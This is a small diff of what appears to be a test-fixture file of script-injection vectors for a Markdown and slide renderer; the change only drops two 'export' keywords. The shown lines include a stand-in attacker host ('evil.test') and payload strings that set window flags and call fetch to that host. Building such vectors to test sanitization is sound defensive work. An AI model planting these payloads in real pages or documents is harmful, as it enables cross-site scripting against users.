@@ -4,7 +4,7 @@
 export const EVIL = "https://evil.test";
 
 /** What each vector would do: say so in every window that it can reach, ask for an address, and take the slides away (which a PDF shows). */
-export const hit = [
+const hit = [
   "window.__hit=1",
   "try{top.__hit=1}catch(e){}",
   `try{fetch('${EVIL}/hit')}catch(e){}`,
@@ -99,7 +99,7 @@ const tex: Readonly<Record<string, string>> = {
 export const htmlVectors: Readonly<Record<string, string>> = { ...html, ...addressesInHtml };
 
 /** Each is the Markdown of one slide. */
-export const vectors: Readonly<Record<string, string>> = {
+const vectors: Readonly<Record<string, string>> = {
   ...htmlVectors,
   ...tex,
   ...addressesInMarkdown,
